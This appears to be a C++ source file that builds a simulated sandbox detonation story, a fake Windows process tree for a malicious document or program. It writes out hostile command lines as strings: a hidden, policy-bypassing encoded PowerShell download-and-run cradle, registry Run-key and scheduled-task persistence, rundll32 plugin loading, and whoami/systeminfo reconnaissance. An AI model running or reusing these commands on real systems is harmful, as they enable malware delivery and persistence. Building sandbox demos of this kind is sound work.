// SPDX-License-Identifier: GPL-3.0-or-later
#include "demo/story/cast.h"

#include "demo/story/places.h"

#include <QByteArray>

#include <algorithm>

using namespace Qt::StringLiterals;

namespace demo::story {

namespace {

constexpr int AgentPid = 6120; // the sandbox's own agent, which starts the sample
constexpr int ServicesPid = 712;
constexpr int UserinitPid = 3080;

// What the macro hands to PowerShell: it only names the steps, it cannot carry them out.
std::string scriptText(const Names& names)
{
    return "$u='" + names.scriptUrl
        + "'; $p=\"$env:APPDATA\\NetSvc\\netsvchelper.exe\"; "
          "(New-Object Net.WebClient).DownloadFile($u,$p); cmd /c start \"\" $p";
}

std::string encodedCommand(const std::string& script)
{
    const QString text = QString::fromStdString(script);
    const QByteArray wide(reinterpret_cast<const char*>(text.utf16()), text.size() * 2);
    return "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand "
        + wide.toBase64().toStdString();
}

bool isProgram(const Task& task)
{
    return task.sample && (task.sample->type.startsWith("PE32"_L1) || task.sample->type.startsWith("MS-DOS"_L1));
}

Process make(Role role, int pid, int parent, const std::string& path, const std::string& commandLine, qint64 from,
    qint64 to, std::size_t calls)
{
    const std::string name = path.substr(path.rfind('\\') + 1);
    return {role, pid, parent, name, path, commandLine, from, to, calls,
        CallLog(std::uint64_t(pid) * 7919, {pid + 4, pid + 16, pid + 28})};
}

} // namespace

Names namesFor(const Task& task)
{
    Names names;
    const std::string home = "C:\\Users\\" + names.user;
    names.sampleName = task.isUrl ? "sample.url" : task.target.toStdString();
    names.samplePath = home + "\\AppData\\Local\\Temp\\" + names.sampleName;
    names.loaderPath = home + "\\AppData\\Roaming\\NetSvc\\netsvchelper.exe";
    names.pluginPath = home + "\\AppData\\Roaming\\NetSvc\\netsvc.dat";
    names.scriptUrl = "http://" + std::string(DownloadHost.name) + DownloadPath;
    names.runKey = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\NetSvcHelper";
    names.taskName = "NetSvcHelper";
    names.script = scriptText(names);
    names.powershellCommand = encodedCommand(names.script);
    names.opensDocument = !isProgram(task);
    return names;
}

std::vector<Process> makeCast(const Names& names)
{
    const std::string system = "C:\\Windows\\System32\\";
    const std::string office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    const std::string opener = names.opensDocument ? office : names.samplePath;
    const std::string opening
        = names.opensDocument ? '"' + office + "\" \"" + names.samplePath + "\" /q" : '"' + names.samplePath + "\" ";
    const std::string powershell = system + "WindowsPowerShell\\v1.0\\powershell.exe";
    const std::string loader = '"' + names.loaderPath + "\" ";
    const std::string makeTask
        = "schtasks.exe /create /sc minute /mo 30 /tn " + names.taskName + " /tr \"" + names.loaderPath + "\" /f";
    const std::string setRunKey = "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v "
                                  "NetSvcHelper /t REG_SZ /d \""
        + names.loaderPath + "\" /f";
    std::vector<Process> cast;
    cast.push_back(make(Role::Opener, 3324, AgentPid, opener, opening, 4200, 176000, 1150));
    cast.push_back(make(Role::PowerShell, 4468, 3324, powershell, names.powershellCommand, 14600, 23800, 900));
    cast.push_back(make(Role::Console, 4476, 4468, system + "conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", 14900, 23900, 60));
    cast.push_back(make(Role::Shell, 5012, 4468, system + "cmd.exe",
        "cmd.exe /c start \"\" \"" + names.loaderPath + '"', 20600, 21900, 90));
    cast.push_back(make(Role::Loader, 5140, 5012, names.loaderPath, loader, 21400, 50200, 900));
    cast.push_back(make(Role::RegistryTool, 5236, 5140, system + "reg.exe", setRunKey, 31200, 31900, 110));
    cast.push_back(make(Role::Scheduler, 5308, 5140, system + "schtasks.exe", makeTask, 33400, 34600, 160));
    cast.push_back(make(Role::TaskService, 1284, ServicesPid, system + "svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", 33900, 120000, 180));
    cast.push_back(make(Role::Explorer, 3120, UserinitPid, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
        44300, 179000, 900));
    cast.push_back(make(Role::Plugin, 5520, 5140, system + "rundll32.exe",
        "rundll32.exe \"" + names.pluginPath + "\",Start", 47100, 90000, 200));
    cast.push_back(make(Role::WhoAmI, 5688, 3120, system + "whoami.exe", "whoami.exe /all", 58200, 58900, 130));
    cast.push_back(
        make(Role::SystemInfo, 5744, 3120, system + "systeminfo.exe", "systeminfo.exe /fo csv", 64100, 70300, 220));
    return cast;
}

Process& find(std::vector<Process>& cast, Role role)
{
    return *std::ranges::find(cast, role, &Process::role);
}

const Process& find(const std::vector<Process>& cast, Role role)
{
    return *std::ranges::find(cast, role, &Process::role);
}

} // namespace demo::story
